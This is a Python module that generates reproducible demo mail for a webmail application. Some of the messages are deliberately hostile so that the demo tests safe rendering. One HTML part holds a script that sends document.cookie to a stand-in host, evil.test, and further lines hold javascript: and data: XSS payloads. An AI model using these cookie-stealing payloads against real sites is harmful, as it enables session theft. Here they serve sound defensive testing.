"""Generated mail, reproducible from a seed, for the demo (``python -m arashi.demo``).

Most messages are plain text; some are multipart with an attachment; some are hostile, as
real mail can be (a ``<script>`` in an HTML part, ``javascript:`` links, an unknown charset,
8-bit headers), so a demo exercises what the pages must render safely.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime

from .store import MailStore

_NAMES = ["ada", "alan", "barbara", "dennis", "edsger", "frances", "grace", "john", "ken",
          "leslie", "margaret", "niklaus", "radia", "tony", "vint", "whitfield"]
_WORDS = ["stage", "queue", "event", "thread", "pool", "load", "overload", "admission",
          "controller", "batch", "latency", "throughput", "request", "response",
          "server", "client", "socket", "cache", "page", "mail", "folder", "message",
          "schedule", "deadline", "budget", "meeting", "report", "draft", "review",
          "lunch", "coffee", "figure", "table", "result", "experiment", "benchmark",
          "paper", "thesis", "chapter", "section"]
_EPOCH = datetime(2024, 1, 1, tzinfo=UTC)

#: the kinds of message, and how often each comes (out of 100)
KINDS = {"plain": 70, "attachment": 15, "html": 5, "script": 4, "javascript-link": 3,
         "unknown-charset": 3}


def _sentence(rng: random.Random, n: int) -> str:
    return " ".join(rng.choice(_WORDS) for _ in range(n)).capitalize()


def message(rng: random.Random, kind: str, to: str, domain: str = "example.org") -> bytes:
    """One message of ``kind`` (a key of ``KINDS``) for address ``to``, as raw bytes."""
    sender = rng.choice(_NAMES)
    date = _EPOCH + timedelta(seconds=rng.randrange(365 * 86400))
    subject = _sentence(rng, rng.randint(2, 7))
    body = "\n\n".join(_sentence(rng, rng.randint(8, 30)) + "." for _ in range(rng.randint(1, 4)))
    if kind == "unknown-charset":      # built by hand: EmailMessage would refuse the charset
        head = (f"From: {sender.title()} <{sender}@{domain}>\r\nTo: {to}\r\n"
                f"Subject: {subject} (x-unknown charset)\r\nDate: {format_datetime(date)}\r\n"
                "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n"
                "Content-Transfer-Encoding: 8bit\r\n\r\n")
        return head.encode() + body.encode() + b"\r\nCaf\xe9 \xff\xfe na\xefve.\r\n"
    msg = EmailMessage()
    msg["From"] = f"{sender.title()} <{sender}@{domain}>"
    msg["To"] = to
    msg["Date"] = format_datetime(date)
    if kind == "plain":
        msg["Subject"] = subject
        msg.set_content(f"{body}\n\nSee https://{domain}/{rng.choice(_WORDS)} for more.\n")
    elif kind == "attachment":
        msg["Subject"] = f"{subject} (attached)"
        msg.set_content(body + "\n")
        data = rng.randbytes(rng.randint(200, 20000))
        name = f"{rng.choice(_WORDS)}-{rng.randrange(100)}.bin"
        msg.add_attachment(data, maintype="application", subtype="octet-stream",
                           filename=name)
        msg.add_attachment(f"{_sentence(rng, 20)}\n", filename="notes.txt")
    elif kind == "html":
        msg["Subject"] = f"{subject} (html)"
        msg.set_content(body + "\n")
        msg.add_alternative(f"<html><body><p>{body}</p></body></html>\n", subtype="html")
    elif kind == "script":
        msg["Subject"] = f"<script>alert('{sender}')</script> {subject}"
        msg.set_content(body + "\n")
        msg.add_alternative("<html><body><script>document.location='https://evil.test/?'"
                            "+document.cookie</script><img src=x onerror=alert(1)>"
                            f"<p>{body}</p></body></html>\n", subtype="html")
    elif kind == "javascript-link":
        msg["Subject"] = f"{subject} (click here)"
        msg.set_content(f"{body}\n\njavascript:alert(document.cookie)\n"
                        "data:text/html,<script>alert(1)</script>\n")
    else:
        raise ValueError(f"no kind of message {kind!r}")
    if msg.is_multipart():              # the default boundary is random: make it the seed's
        msg.set_boundary(f"=_{rng.getrandbits(64):016x}")
    return bytes(msg)


def messages(rng: random.Random, count: int, to: str, domain: str = "example.org"
             ) -> Iterator[tuple[bytes, str]]:
    """``count`` messages as ``(raw, flags)``, kinds drawn by ``KINDS``; about half seen."""
    kinds, weights = list(KINDS), list(KINDS.values())
    for _ in range(count):
        kind = rng.choices(kinds, weights)[0]
        yield message(rng, kind, to, domain), "S" if rng.random() < 0.5 else ""


def populate(store: MailStore, user: int, name: str, folders: dict[str, int], *,
             seed: int = 0, domain: str = "example.org") -> int:
    """Fill ``user``'s folders (made if missing; ``INBOX`` is there already) with generated
    mail: ``{folder name: how many}``. The same seed gives the same mail. How many in all."""
    rng = random.Random(seed)
    existing = {f.name: f.id for f in store.folders(user)}
    total = 0
    for folder, count in folders.items():
        fid = existing.get(folder)
        if fid is None:
            fid = store.add_folder(user, folder)
        total += store.add_messages(user, fid, messages(rng, count, f"{name}@{domain}", domain))
    return total

